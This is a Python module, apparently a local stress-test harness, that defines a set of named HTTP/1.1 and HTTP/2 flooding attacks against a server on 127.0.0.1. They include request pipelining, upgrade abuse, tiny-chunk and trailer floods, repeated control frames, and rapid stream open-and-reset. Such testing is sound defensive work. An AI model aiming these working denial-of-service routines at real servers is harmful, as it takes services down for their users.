"""Attacks on HTTP itself: pipelines, upgrades, chunks, and empty frames."""

import asyncio
import json
import time
from contextlib import suppress
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.exceptions
from hyperframe.frame import (
    DataFrame,
    Frame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

_PIECE = 1 << 16  # bytes written at once
_BODY = json.dumps({"inputs": "the cat"}).encode()
_POST = b"POST /embed HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n" % len(_BODY)


async def _pour(port: int, opening: bytes, data: bytes, until: float, *, read: bool) -> None:
    """Sends `data` repeatedly, on one connection after another; the answers are read, or not."""
    while time.monotonic() < until:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(until - time.monotonic()):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                reading = asyncio.ensure_future(_read(reader)) if read else None
                writer.write(opening)
                while not reader.at_eof():
                    writer.write(data)
                    await writer.drain()
                    await asyncio.sleep(0)
        with suppress(UnboundLocalError):
            writer.transport.abort()
            if reading:
                reading.cancel()
        await asyncio.sleep(0.01)


async def _read(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(_PIECE):
            pass


@dataclass(frozen=True)
class Repeated:
    """`message` repeatedly, after an opening."""

    message: bytes
    opening: bytes = b""
    read: bool = True

    @property
    def frames(self) -> tuple[bytes, bytes]:
        """The opening, and some tens of kilobytes of the repeated message."""
        return self.opening, self.message * max(1, _PIECE // len(self.message))

    async def __call__(self, port: int, until: float) -> None:
        await _pour(port, *self.frames, until, read=self.read)


def _frames(*frames: Frame, read: bool = True) -> Repeated:
    """Frames after a preface, SETTINGS and the head of a request that never ends."""
    client = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
    client.initiate_connection()
    head = {":method": "POST", ":path": "/embed", ":scheme": "http", ":authority": "localhost"}
    client.send_headers(1, list(head.items()))
    return Repeated(b"".join(frame.serialize() for frame in frames), client.data_to_send(), read)


async def many_streams(port: int, until: float) -> None:
    """A thousand streams and more at once, opened and cancelled."""
    head = {":method": "POST", ":path": "/embed", ":scheme": "http", ":authority": "localhost"}
    while time.monotonic() < until:
        with suppress(OSError, TimeoutError, h2.exceptions.ProtocolError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            client = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
            client.initiate_connection()
            client.remote_settings.max_concurrent_streams = 1 << 20
            client.remote_settings.acknowledge()
            for _ in range(2000):
                stream = client.get_next_available_stream_id()
                client.send_headers(stream, list(head.items()))
                client.reset_stream(stream)
                writer.write(client.data_to_send())
            async with asyncio.timeout(min(2, until - time.monotonic())):
                await writer.drain()
                await _read(reader)
        writer.transport.abort()


_WEBSOCKET = b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + _BODY
_CHUNKED = b"POST /embed HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"

ATTACKS = {
    "nothing": lambda port, until: asyncio.sleep(until - time.monotonic()),
    "pipelined": Repeated(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n", read=False),
    "pipelined, read": Repeated(b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    "pipelined texts": Repeated(_POST + b"\r\n" + _BODY),
    "upgrades": Repeated(_POST + _WEBSOCKET),
    "empty lines": Repeated(b"\r\n"),
    "tiny chunks": Repeated(b"1\r\nx\r\n", _CHUNKED),
    "chunks of empty lines": Repeated(b"4\r\n\r\n\r\n\r\n", _CHUNKED),
    "trailers": Repeated(b"X: y\r\n", _CHUNKED + b"0\r\n"),
    "SETTINGS": _frames(SettingsFrame()),
    "PING": _frames(PingFrame(opaque_data=b"12345678"), read=False),
    "empty DATA": _frames(DataFrame(1)),
    "DATA of one byte": _frames(DataFrame(1, data=b" ")),
    "WINDOW_UPDATE": _frames(WindowUpdateFrame(0, window_increment=1)),
    "PRIORITY": _frames(PriorityFrame(3, depends_on=0, stream_weight=1)),
    "RST_STREAM": _frames(RstStreamFrame(1)),
    "streams": many_streams,
}
